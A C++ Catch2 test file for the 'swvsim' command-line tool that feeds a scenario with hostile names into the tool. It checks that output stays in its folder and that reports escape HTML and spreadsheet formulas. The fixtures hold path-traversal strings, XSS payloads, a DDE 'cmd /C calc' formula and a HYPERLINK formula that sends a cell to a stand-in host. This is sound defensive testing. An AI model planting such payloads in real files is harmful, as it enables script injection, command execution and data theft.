// Hostile text in a scenario (docs/betrouwbaarheid.md): names with path separators, "../",
// HTML/JS and spreadsheet formulas. `swvsim run` writes only its fixed file names, and only inside
// the --uit folder (or uitvoer/<slug>/ without it); the text reaches the reports escaped.
#include <catch2/catch.hpp>

#include <sys/wait.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <sstream>
#include <string>

#include "helpers.h"

namespace {

namespace fs = std::filesystem;

// The minimal scenario (helpers.cpp) with a hostile name and description, and hostile posts and risks.
std::string hostile_scenario() {
  std::string s = swv::test::kMinimalPo;
  swv::test::replace_all(s, "naam = \"Test\"\n", R"(naam = '../../buiten/<script>alert("naam")</script>/..\..\x'
omschrijving = "</style><script>alert(1)</script> & ../../etc/passwd"
)");
  return s + R"([[post]]
code = "../1"
naam = '=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")'
kant = "lasten"
bedrag = 10_000
groep = "../../groep/<b>"
[[post]]
code = "<img src=x onerror=alert(2)>"
naam = "@SUM(1+1)*cmd|' /C calc'!A0"
kant = "lasten"
bedrag = 5_000
[[risico]]
code = "/etc/passwd"
naam = "+1+1 <svg onload=alert(3)>"
kans = 0.1
impact = 10_000
)";
}
const std::string kHostile = hostile_scenario();

std::string read_text(const fs::path& p) { return swv::test::slurp(p.string()); }

// Every file below `root`, relative to it.
std::set<std::string> listing(const fs::path& root) {
  std::set<std::string> out;
  for (const auto& e : fs::recursive_directory_iterator(root))
    if (!e.is_directory()) out.insert(fs::relative(e.path(), root).string());
  return out;
}

int run_in(const fs::path& cwd, const std::string& args) {
  std::string cmd = "cd '" + cwd.string() + "' && '" + SWVSIM_BINARY + "' " + args + " >'" + (cwd / "uitvoer.log").string() + "' 2>&1";
  return swv::test::run_shell(cmd);
}

const std::set<std::string> kReports = {"resultaat.json", "rapport.html", "rapport.xlsx", "resultaat.csv", "resultaat-nl.csv",
                                        "samenvatting.md"};

}  // namespace

TEST_CASE("vijandige namen: niets wordt buiten de uitvoermap geschreven", "[vijandig]") {
  const fs::path root = swv::test::temp_dir();
  fs::create_directories(root / "in" / "werk");
  swv::test::write((root / "in").string(), "scenario.toml", kHostile);
  swv::test::write((root / "in").string(), "regels.toml", swv::test::kRulesPo);

  SECTION("met --uit") {
    REQUIRE(run_in(root / "in" / "werk", "run ../scenario.toml --deterministisch --stil --uit uit/sub") == 0);
    std::set<std::string> want = {"in/scenario.toml", "in/regels.toml", "in/werk/uitvoer.log"};
    for (const auto& f : kReports) want.insert("in/werk/uit/sub/" + f);
    want.insert("in/werk/uit/sub/.swvsim.lock");  // the output folder's lock and record (docs/cli-en-uitvoer.md)
    want.insert("in/werk/uit/sub/.swvsim.set");
    CHECK(listing(root) == want);
  }
  SECTION("zonder --uit: uitvoer/<naam als slug>/") {
    REQUIRE(run_in(root / "in" / "werk", "run ../scenario.toml --deterministisch --stil") == 0);
    auto files = listing(root);
    CHECK(files.erase("in/scenario.toml") == 1);
    CHECK(files.erase("in/regels.toml") == 1);
    CHECK(files.erase("in/werk/uitvoer.log") == 1);
    CHECK(std::erase_if(files, [](const std::string& f) { return fs::path(f).filename() == ".swvsim.lock"; }) == 1);
    CHECK(std::erase_if(files, [](const std::string& f) { return fs::path(f).filename() == ".swvsim.set"; }) == 1);
    REQUIRE(files.size() == kReports.size());
    for (const auto& f : files) {
      INFO(f);
      fs::path p(f);
      // in/werk/uitvoer/<slug>/<report>: exactly one folder level, a slug without dots or separators.
      CHECK(std::distance(p.begin(), p.end()) == 5);
      CHECK(p.begin()->string() == "in");
      const std::string slug = std::next(p.begin(), 3)->string();
      CHECK(slug.find_first_not_of("abcdefghijklmnopqrstuvwxyz0123456789-") == std::string::npos);
      CHECK(kReports.count(p.filename().string()) == 1);
    }
  }
  fs::remove_all(root);
}

TEST_CASE("vijandige namen: HTML en formules komen onschadelijk in de rapporten", "[vijandig]") {
  const fs::path root = swv::test::temp_dir();
  swv::test::write(root.string(), "scenario.toml", kHostile);
  swv::test::write(root.string(), "regels.toml", swv::test::kRulesPo);
  REQUIRE(run_in(root, "run scenario.toml --deterministisch --stil --uit uit --formaat html,csv,md") == 0);
  const std::string html = read_text(root / "uit" / "rapport.html");
  for (const char* raw : {"<script>alert", "<img src=x", "<svg onload", "</style><script>"}) {
    INFO(raw);
    CHECK(html.find(raw) == std::string::npos);
  }
  CHECK(html.find("&lt;script&gt;alert") != std::string::npos);
  CHECK(read_text(root / "uit" / "samenvatting.md").find("<script>") == std::string::npos);
  // The CSV for Excel: a cell never starts with a formula character (=, +, -, @) unless it is a
  // number. The CSV for scripts holds the text exactly, quoted as RFC 4180 says (docs/keuzes.md).
  const std::string csv = read_text(root / "uit" / "resultaat-nl.csv");
  for (const char* formula : {";=HYPERLINK", ";\"=HYPERLINK", ";@SUM", ";\"@SUM", ";+1+1", ";\"+1+1"}) {
    INFO(formula);
    CHECK(csv.find(formula) == std::string::npos);
    CHECK(csv.find(std::string("\n") + (formula + 1)) == std::string::npos);
  }
  const std::string plain = read_text(root / "uit" / "resultaat.csv");
  CHECK(plain.find(",\"=HYPERLINK(\"\"http://voorbeeld.invalid/?\"\"&A1,\"\"klik\"\")\",") != std::string::npos);
  CHECK(plain.find(",+1+1 <svg onload=alert(3)>,") != std::string::npos);
  fs::remove_all(root);
}
